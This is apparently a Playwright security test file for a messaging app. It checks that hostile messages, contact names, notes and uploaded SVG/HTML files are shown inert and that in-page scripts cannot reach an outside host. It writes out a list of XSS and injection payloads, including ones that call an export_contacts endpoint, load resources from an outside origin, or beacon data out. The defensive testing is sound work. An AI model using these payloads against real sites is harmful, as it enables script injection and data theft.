/**
 * The page under attack: whatever strangers write, are called or send is shown as what it is. It runs no script, asks
 * the core for nothing, and leaves no request for anybody else.
 */
import { expect, test, type Page } from '@playwright/test';
import { Desk } from './desk.ts';
import { Elsewhere } from './elsewhere.ts';
import { list, texts } from './inbox.ts';

/** Sets a mark on the page if any of it runs. */
const RUN = "window.pwned=(window.pwned||0)+1;fetch('/call/export_contacts',{method:'POST',body:'{}'})";

/** What strangers may write, with an address that whoever obeys it would go to. */
const hostile = (outside: string): string[] => [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `"><svg/onload="${RUN}">`,
  `<iframe srcdoc='<script>parent.${RUN}</script>'></iframe>`,
  `<a href="javascript:${RUN}">your result</a> javascript:${RUN}`,
  `<img src="${outside}/pixel.png"><link rel=stylesheet href="${outside}/a.css">`,
  `<style>@import url(${outside}/b.css); main { display: none }</style>`,
  `<form action="${outside}/take"><button autofocus>Sign in</button></form>`,
  `<base href="${outside}/"><meta http-equiv=refresh content="0;url=${outside}/">`,
  `{{constructor.constructor("${RUN}")()}} \${${RUN}} {${'@'}html "<b>x</b>"}`,
  `data:text/html,<script>${RUN}</script> vbscript:x file:///etc/passwd`,
  `[click](javascript:${RUN}) ![x](${outside}/c.png)`,
  '\u202E txet sdrawkcab \u202C\u0000\u001B[31m\uFFFE',
];
const NAME = `<img src=x onerror="${RUN}"> & "Maya"`;
const note = (outside: string): string => `<script>${RUN}</script> ${outside}/note.png`;

const base64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');
const files = (outside: string): { contentType: string; base64: string }[] => [
  {
    contentType: 'image/svg+xml',
    base64: base64(
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="${outside}/d.png"/><script>${RUN}</script></svg>`,
    ),
  },
  { contentType: 'image/png', base64: base64(`<html><script>${RUN}</script></html>`) },
  { contentType: 'text/html', base64: base64(`<script>${RUN}</script>`) },
];

interface Watched {
  /** Requests that went elsewhere than to the desk, or would have. */
  outside: string[];
  /** Calls that were asked of the core. */
  calls: string[];
  dialogs: string[];
}

/** Watches everything that leaves the page. */
function watch(page: Page, desk: Desk): Watched {
  const watched: Watched = { outside: [], calls: [], dialogs: [] };
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (['blob:', 'data:'].includes(url.protocol)) return;
    if (url.origin !== desk.ready.ui) watched.outside.push(request.url());
    const call = /^\/(?:call|give)\/(\w+)$/.exec(url.pathname)?.[1];
    if (call !== undefined) watched.calls.push(call);
  });
  page.on('dialog', (dialog) => {
    watched.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('popup', (popup) => void watched.outside.push(`popup ${popup.url()}`));
  return watched;
}

const marks = (page: Page): Promise<unknown> =>
  page.evaluate(() => (window as { pwned?: number }).pwned ?? 0);

async function holdsStill(page: Page, desk: Desk, watched: Watched, elsewhere: Elsewhere): Promise<void> {
  // A turn for whatever was started, images that load late and frames that are drawn included.
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 300))));
  expect(await marks(page)).toBe(0);
  expect(watched.outside).toEqual([]);
  expect(elsewhere.came).toEqual([]);
  expect(watched.dialogs).toEqual([]);
  expect(watched.calls).not.toContain('export_contacts');
  expect(new URL(page.url()).origin).toBe(desk.ready.ui);
  expect(
    await page.locator('main iframe, main script, main object, main embed, main form[action]').count(),
  ).toBe(0);
  for (const address of await page
    .locator('a[href]')
    .evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).href))) {
    expect(['http:', 'https:'], address).toContain(new URL(address).protocol);
  }
}

test.describe.configure({ mode: 'parallel' });

test('the watch would notice a script, a request and a dialog', async ({ page }) => {
  await using elsewhere = await Elsewhere.start();
  await using desk = await Desk.start({ line: 'practice', story: 'told' });
  const watched = watch(page, desk);
  await desk.open(page);
  await page.evaluate((outside) => {
    (window as { pwned?: number }).pwned = 1;
    alert('dialog');
    void fetch('/call/read_counts', { method: 'POST', body: '{}' });
    window.open(`${outside}/x`);
  }, elsewhere.origin);
  await expect.poll(() => watched.outside.length).toBeGreaterThan(0);
  // A browser opens windows for a script, as the app does not: so it could get there.
  await expect.poll(() => elsewhere.came).toContain('GET /x');
  await expect.poll(() => watched.calls).toContain('read_counts');
  expect([await marks(page), watched.dialogs]).toEqual([1, ['dialog']]);
});

test('hostile words, names, notes, pictures and files are shown as what they are', async ({ page }) => {
  await using elsewhere = await Elsewhere.start();
  await using desk = await Desk.start({ line: 'practice', story: 'told' });
  const from = '+12025550166';
  const written = hostile(elsewhere.origin);
  for (const body of written) await desk.text({ from, body });
  const [number] = await desk.call<{ id: string }[]>('list_numbers');
  await desk.call('pretend_text', {
    from,
    number: number?.id,
    body: 'Files',
    drawings: [],
    files: files(elsewhere.origin),
  });
  await desk.call('name_contact', { number: from, name: NAME, note: note(elsewhere.origin) });
  const { thread } = await desk.call<{ thread: string }>('open_thread', { number: number?.id, to: from });
  await desk.call('add_note', { thread, body: written[1], intent: 'hostile-note-1' });
  await desk.call('add_tag', { address: from, name: '<b onclick=1>tag' });
  await desk.call('save_draft', { thread, kind: 'text', body: written[0], intent: 'hostile-draft-1' });

  const watched = watch(page, desk);
  await desk.open(page);
  await list(page).waitFor();
  await list(page).getByText(NAME).first().click();
  await expect(texts(page).getByText(written[0] ?? '', { exact: true })).toBeVisible();
  await holdsStill(page, desk, watched, elsewhere);

  // Every word of it stands there, as it was written.
  for (const body of written.slice(0, -1)) {
    await expect(page.getByRole('main').getByText(body, { exact: true }).first()).toBeAttached();
  }
  await page.getByRole('searchbox').fill('onerror');
  await expect(page.locator('mark').first()).toBeVisible();
  await holdsStill(page, desk, watched, elsewhere);
  await page.getByRole('searchbox').fill('');
  await page.keyboard.press('Escape');
  await page.getByRole('link', { name: 'Contacts', exact: true }).click();
  await page.getByText(NAME).first().click();
  await holdsStill(page, desk, watched, elsewhere);
});

test('what a script in the page could try by itself is refused', async ({ page }) => {
  await using elsewhere = await Elsewhere.start();
  await using desk = await Desk.start({ line: 'practice', story: 'told' });
  watch(page, desk);
  await desk.open(page);
  const tried = await page.evaluate(async (outside) => {
    const outcome: Record<string, string> = {};
    const attempt = async (name: string, work: () => unknown): Promise<void> => {
      outcome[name] = await Promise.resolve()
        .then(work)
        .then(
          () => 'done',
          () => 'refused',
        );
    };
    const load = (tag: string, set: (element: never) => void): Promise<void> =>
      new Promise((done, fail) => {
        const element = document.createElement(tag);
        element.addEventListener('load', () => done());
        element.addEventListener('error', () => fail(new Error(tag)));
        set(element as never);
        document.body.append(element);
        setTimeout(() => fail(new Error('nothing happened')), 2000);
      });
    const open = (one: EventTarget): Promise<void> =>
      new Promise((done, fail) => {
        one.addEventListener('open', () => done());
        one.addEventListener('error', () => fail(new Error('refused')));
        setTimeout(() => fail(new Error('nothing happened')), 2000);
      });
    await attempt('fetch', () => fetch(`${outside}/e`));
    await attempt('fetch without asking', () => fetch(`${outside}/e`, { mode: 'no-cors' }));
    await attempt('events', () => open(new EventSource(`${outside}/events`)));
    await attempt('socket', () => open(new WebSocket(`${outside.replace('http', 'ws')}/socket`)));
    await attempt('style', () =>
      load('link', (one: HTMLLinkElement) => ((one.rel = 'stylesheet'), (one.href = `${outside}/j.css`))),
    );
    // It tells nobody how it ended: whether it got there is seen there.
    navigator.sendBeacon(`${outside}/beacon`, 'all of it');
    await attempt('script', () => load('script', (one: HTMLScriptElement) => (one.src = `${outside}/f.js`)));
    await attempt('inline', () => {
      const script = document.createElement('script');
      script.textContent = 'window.pwned = 1';
      document.body.append(script);
      if (!(window as { pwned?: number }).pwned) throw new Error('it did not run');
    });
    await attempt('handler', () => {
      const image = document.createElement('div');
      image.setAttribute('onclick', 'window.pwned = 1');
      image.click();
      if (!(window as { pwned?: number }).pwned) throw new Error('it did not run');
    });
    await attempt('eval', () => (Reflect.get(window, 'eval') as (code: string) => unknown)('1 + 1'));
    await attempt('image', () => load('img', (one: HTMLImageElement) => (one.src = `${outside}/g.svg`)));
    await attempt('frame', () => {
      const frame = document.createElement('iframe');
      frame.src = `${outside}/h`;
      document.body.append(frame);
      return new Promise((done, fail) => {
        document.addEventListener('securitypolicyviolation', () => fail(new Error('refused')), {
          once: true,
        });
        setTimeout(done, 2000);
      });
    });
    await attempt('worker', () => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      return new Promise((done, fail) => {
        worker.onmessage = done;
        worker.onerror = () => fail(new Error('refused'));
        setTimeout(done, 2000);
      });
    });
    await attempt('form', () => {
      const form = document.createElement('form');
      form.action = `${outside}/i`;
      document.body.append(form);
      const violated = new Promise((_, fail) =>
        document.addEventListener('securitypolicyviolation', () => fail(new Error('refused')), {
          once: true,
        }),
      );
      form.submit();
      return Promise.race([violated, new Promise((done) => setTimeout(done, 2000))]);
    });
    return outcome;
  }, elsewhere.origin);
  expect(Object.entries(tried).filter(([, how]) => how !== 'refused')).toEqual([]);
  expect(await marks(page)).toBe(0);
  expect(elsewhere.came).toEqual([]);
  expect(new URL(page.url()).origin).toBe(desk.ready.ui);
});
